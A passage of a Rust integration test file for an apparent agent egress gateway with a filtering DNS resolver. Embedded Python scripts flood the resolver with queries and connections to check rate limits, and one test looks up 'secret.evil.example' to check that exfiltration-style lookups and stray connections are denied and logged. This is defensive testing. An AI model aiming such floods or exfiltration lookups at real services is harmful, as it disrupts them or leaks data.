query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03www\x06target\x04test\x00\x00\x01\x00\x01"
two = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
two.settimeout(10)
for resolver in ("192.0.2.1", "192.0.2.2"):
    two.sendto(query, (resolver, 53))
answers = sorted((source, socket.inet_ntoa(answer[-4:])) for answer, source in (two.recvfrom(512) for _ in range(2)))
print(answers)
six = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
six.settimeout(10)
six.sendto(query, ("2001:db8::53", 53))
answer, source = six.recvfrom(512)
print(source[0], socket.inet_ntoa(answer[-4:]))
# One address of the loopback stands for all of these: both answers look as if the later one had sent them (README, "Limits").
for resolver in ("2001:db8::1", "2001:db8::2"):
    six.sendto(query, (resolver, 53))
print(sorted((six.recvfrom(512) for _ in range(2)), key=lambda it: it[1])[0][1][0])
"#;
    let world = World::new();
    let said = world.env.agent("python3").args(["-c", TWO]).run().unwrap().expect_success().unwrap();
    let expected = "[(('192.0.2.1', 53), '192.0.2.10'), (('192.0.2.2', 53), '192.0.2.10')]\n2001:db8::53 192.0.2.10\n\
                    2001:db8::2\n";
    assert_eq!(said, expected);
}

#[test]
fn a_flood_is_limited_and_does_not_reach_others() {
    const FLOOD: &str = r#"
import collections, socket, time
query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03www\x06target\x04test\x00\x00\x01\x00\x01"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(("192.0.2.53", 53))
s.settimeout(2)
codes = collections.Counter()
print("begun", flush=True)
end = time.time() + 4
while time.time() < end:
    for _ in range(20):
        s.send(query)
    for _ in range(20):
        try:
            codes[s.recv(512)[3] & 15] += 1
        except TimeoutError:
            codes["lost"] += 1
            break
print(dict(codes))
"#;
    let world = World::new();
    let flood = world.env.agent("python3").args(["-c", FLOOD]).start().unwrap();
    flood.wait_for("begun", PATIENCE).unwrap();
    let begun = Instant::now();
    for _ in 0..5 {
        assert_eq!(world.clerk(&["wages.target.test"]), "NOERROR");
    }
    assert!(begun.elapsed() < PATIENCE);
    let said = flood.finish(PATIENCE).unwrap().expect_success().unwrap();
    let count = |code: &str| {
        let counted = said.split(&format!("{code}: ")).nth(1).and_then(|rest| rest.split([',', '}']).next());
        counted.map_or(0, |count| count.parse::<u32>().unwrap())
    };
    println!("{said}");
    // 1000 at once and 200 a second, for some 4 s; the others are told to try again.
    assert!((1000..4000).contains(&count("0")) && count("2") > 0, "{said}");
    world.wait_for_refusal("www.target.test", "A", "too many queries");
}

/// The same of connections: an agent has so many, and the others theirs.
#[test]
fn a_flood_of_connections_is_limited_and_does_not_reach_others() {
    const SHARE: usize = 16;
    // More than the resolver has for all.
    const FLOOD: &str = r#"
import socket, sys
query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03www\x06target\x04test\x00\x00\x01\x00\x01"
held = []
def ask(s):
    try:
        s.sendall(len(query).to_bytes(2, "big") + query)
        return s.recv(512) != b""
    except OSError:
        return False
for _ in range(300):
    s = socket.create_connection(("192.0.2.53", 53), timeout=10)
    if ask(s):
        held.append(s)
print("held", len(held), flush=True)
sys.stdin.readline()
print("again", sum(map(ask, held)), flush=True)
held.pop().close()
sys.stdin.readline()
print("after one has ended", ask(socket.create_connection(("192.0.2.53", 53), timeout=10)))
"#;
    let world = World::new();
    let mut flood = world.env.agent("python3").args(["-c", FLOOD]).start().unwrap();
    flood.wait_for(&format!("held {SHARE}\n"), PATIENCE).unwrap();
    for _ in 0..5 {
        assert_eq!(world.clerk(&["+tcp", "wages.target.test"]), "NOERROR");
    }
    flood.write("\n").unwrap();
    flood.wait_for(&format!("again {SHARE}\n"), PATIENCE).unwrap();
    // It is free when the resolver has seen the end.
    std::thread::sleep(Duration::from_millis(300));
    flood.write("\n").unwrap();
    let said = flood.finish(PATIENCE).unwrap().expect_success().unwrap();
    assert!(said.ends_with("after one has ended True\n"), "{said}");
}

#[test]
fn without_a_server_outside_nothing_is_made_up() {
    let mut world = World::new();
    assert_eq!(world.ask(&["www.target.test", "A"]).0, "NOERROR");
    let port = world.named.port();
    // Its end, and the same again later.
    let named = std::mem::replace(&mut world.named, Named::start(&world.env, "").unwrap());
    drop(named);
    let begun = Instant::now();
    assert_eq!(world.ask(&["short.target.test", "A"]).0, "SERVFAIL");
    assert!(begun.elapsed() < Duration::from_secs(5), "before clients give up: {:?}", begun.elapsed());
    assert_eq!(world.ask(&["www.target.test", "A"]).0, "NOERROR", "this answer is still good");
    world.named = Named::start_at(&world.env, &zone(world.port), port).unwrap();
    let answered = wait_until("an answer", PATIENCE, || world.ask(&["short.target.test", "A"]).0 == "NOERROR");
    answered.unwrap();
}

#[test]
fn what_is_only_observed_is_answered_and_recorded() {
    let world = World::with("unlisted = \"observe\"");
    let (code, answer) = world.ask(&["files.example", "A"]);
    assert_eq!(code, "NOERROR");
    assert!(answer[0].ends_with("192.0.2.66"), "{answer:?}");
    // A target's name stays what policy says of it, and other types stay closed.
    assert!(world.ask(&["wages.target.test", "A"]).1[0].ends_with(" 192.0.0.8"));
    assert_eq!(world.ask(&["files.example", "TXT"]).0, "REFUSED");
    world.wait_for_refusal("files.example", "TXT", "no target has this name");
    let refused = world.refused();
    let observed = |name: &str, kind: &str| refused.iter().find(|it| it.0 == name && it.1 == kind).map(|it| it.3);
    assert_eq!((observed("files.example", "A"), observed("files.example", "TXT")), (Some(true), Some(false)));
}

#[test]
fn a_reload_takes_names_away_at_once() {
    let world = World::new();
    assert_eq!(world.ask(&["www.target.test", "A"]).0, "NOERROR");
    let config = fs::read_to_string(world.env.config_path()).unwrap();
    fs::write(world.env.config_path(), config.replace("\"www.target.test:", "\"web.target.test:")).unwrap();
    world.gateway.reload().unwrap();
    assert_eq!(world.ask(&["www.target.test", "A"]).0, "REFUSED");
    assert_eq!(world.ask(&["web.target.test", "A"]).0, "NXDOMAIN");
}

/// What the resolver, the kernel half and the gateway denied, in the list that people look at first.
#[test]
fn what_was_denied_stands_in_one_list() {
    let world = World::new();
    assert_eq!(world.ask(&["secret.evil.example", "A"]).0, "REFUSED");
    world.wait_for_refusal("secret.evil.example", "A", "");
    let script = "import socket, sys\n\
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
        try: s.sendto(b'x', ('192.0.2.77', 4433))\n\
        except ConnectionRefusedError: pass\n\
        try: socket.create_connection(('192.0.2.78', 443), timeout=10).recv(1)\n\
        except OSError: pass\n";
    world.env.agent("python3").args(["-c", script]).run().unwrap().expect_success().unwrap();
    let denials = || {
        let list = world.env.weir(["denials", "--json"]).unwrap().expect_success().unwrap();
        serde_json::from_str::<Vec<Denial>>(&list).unwrap()
    };
    let has =
        |kind: Kind, what: &str| denials().into_iter().find(|denial| denial.kind == kind && denial.what.contains(what));
    wait_until("the kernel half's word", PATIENCE, || has(Kind::Kernel, "UDP 192.0.2.77:4433").is_some())
        .unwrap_or_else(|error| panic!("{error}: {:?}", denials()));
    assert!(has(Kind::Dns, "secret.evil.example A").is_some_and(|denial| denial.pid.is_some() && denial.id.is_none()));
    let refused = denials().into_iter().find(|denial| denial.reason.contains("192.0.2.78")).unwrap();
    let id = refused.id.unwrap().to_string();
    assert_eq!((refused.kind, refused.agent.as_deref()), (Kind::Connection, Some(AGENT)));
    let why = world.env.weir(["why", &id]).unwrap().expect_success().unwrap();
    assert!(why.contains("no target is configured at 192.0.2.78:443"), "{why}");
    // For people, and only what they ask for.
    let table = world.env.weir(["denials"]).unwrap().expect_success().unwrap();
    for word in ["UDP other than DNS", "secret.evil.example A", &id] {
        assert!(table.contains(word), "no {word:?} in {table}");
    }
    let others = world.env.weir(["denials", "--agent", "nobody"]).unwrap().expect_success().unwrap();
    assert_eq!(others.trim(), "nothing was denied");
}
